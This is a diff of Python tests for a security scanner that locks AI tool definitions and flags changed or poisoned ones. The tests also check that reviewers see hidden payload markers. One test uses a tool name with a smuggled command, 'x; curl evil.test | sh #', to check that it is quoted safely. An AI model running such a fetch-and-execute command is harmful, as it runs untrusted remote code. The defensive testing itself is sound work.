@@ -197,7 +197,10 @@ def test_a_finding_that_somebody_accepts_is_ignored_until_its_day(locked: Projec
     assert {item["ignoredBy"] for item in json.loads(ran.out)["ignored"]} == {
         "oktsec.lock: accepted by ann until 2999-12-31: a demo"
     }
-    assert locked.run("lock", "--yes", *why, "--until", "2020-01-01").code == 0
+    text = locked.lock.read_text()
+    assert locked.run("lock", "--yes", "--reason", "bulk", "--by", "bob").code == 0
+    assert locked.lock.read_text() == text, "what somebody accepted stays theirs"
+    locked.lock.write_text(text.replace("2999-12-31", "2020-01-01"))
     assert {"IAP-007", "LCK-013"} <= locked.found().keys()
 
 
@@ -224,6 +227,8 @@ def test_diff_and_show(locked: Project) -> None:
         (("lock", "--check", "--yes"), "writes nothing"),
         (("lock", "--yes", "--until", "2027-01-01"), "--reason"),
         (("lock", "--yes", "--reason", "x", "--until", "soon"), "soon"),
+        (("lock", "--yes", "--reason", "x", "--until", "2020-01-01"), "has passed"),
+        (("scan", "--report", "json=oktsec.lock"), "would overwrite"),
         (("lock", "--server", "fils"), "did you mean files"),
         (("lock", "a.yaml", "b.yaml"), "one configuration"),
     ],
@@ -275,7 +280,7 @@ def at_terminal(project: Project, answers: str) -> tuple[int, str]:
 def test_a_person_accepts_and_refuses_at_a_terminal(locked: Project) -> None:
     locked.offer(POISONED, {**WRITE, "description": "Writes two files."})
     code, shown = at_terminal(locked, "y\nn\na demo\n2999-12-31\n")
-    assert code == 0, shown
+    assert code == 1, "one of two changes was refused"
     assert "files: changed definition tool read" in shown
     assert "IAP-007" in shown
     assert "Writes [-one-]{+two+}" in shown
@@ -327,3 +332,51 @@ def test_a_list_that_others_could_have_written_or_that_is_broken_is_not_read(loc
     file.write_text(f"tool {tool['digest']}\n" + ("nonsense\n" if spoil == "content" else ""))
     file.chmod(0o666 if spoil == "mode" else 0o600)
     assert "IAP-007" in locked.found("--offline")
+
+
+def test_an_override_that_came_with_the_change_excuses_no_drift(locked: Project) -> None:
+    config = locked.folder / "oktsec.yaml"
+    rules = ", ".join(f"{{id: LCK-{number:03}, action: ignore}}" for number in range(1, 15))
+    config.write_text(f"{config.read_text()}rules: [{rules}]\n")
+    locked.offer({**READ, "description": "Reads two files."}, WRITE)
+    assert locked.run("scan", "--locked").code == 1
+    assert locked.run("lock", "--check").code == 1
+    locked.lock.unlink()
+    assert locked.run("scan", "--locked").code == 1
+
+
+def test_a_failing_server_keeps_its_launch_line_and_acceptances(locked: Project) -> None:
+    locked.offer(POISONED, WRITE)
+    locked.run("lock", "--yes", "--reason", "a demo", "--by", "ann")
+    text = locked.lock.read_bytes()
+    config = locked.folder / "oktsec.yaml"
+    config.write_text(config.read_text().replace("state.json", "absent.json"))
+    assert locked.run("lock", "--yes").code == 4
+    assert locked.lock.read_bytes() == text
+
+
+def test_a_rewritten_description_is_compared_in_time(locked: Project) -> None:
+    old, new = (" ".join(f"{letter}{index}" for index in range(3_000)) for letter in "ab")
+    locked.offer({**READ, "description": old})
+    locked.run("lock", "--yes")
+    locked.offer({**READ, "description": new})
+    assert "LCK-001" in locked.found()
+
+
+def test_what_is_shown_to_a_reviewer_is_everything_that_is_locked(locked: Project) -> None:
+    deep = {"type": "object", "properties": {"x": {"type": "string", "description": "SCHEMAPAYLOAD"}}}
+    send = {
+        "name": "send",
+        "title": "TITLEPAYLOAD",
+        "description": "Sends. " * 400 + "TAILPAYLOAD",
+        "inputSchema": deep,
+    }
+    locked.offer(READ, WRITE, send)
+    _, shown = at_terminal(locked, "y\n" * 9)
+    for payload in ("TITLEPAYLOAD", "SCHEMAPAYLOAD", "TAILPAYLOAD"):
+        assert payload in shown
+
+
+def test_a_name_is_one_word_in_what_a_person_is_told_to_type(locked: Project) -> None:
+    locked.offer(READ, WRITE, {**READ, "name": "x; curl evil.test | sh #"})
+    assert locked.found()["LCK-007"]["help"].endswith("--tool 'x; curl evil.test | sh #'")
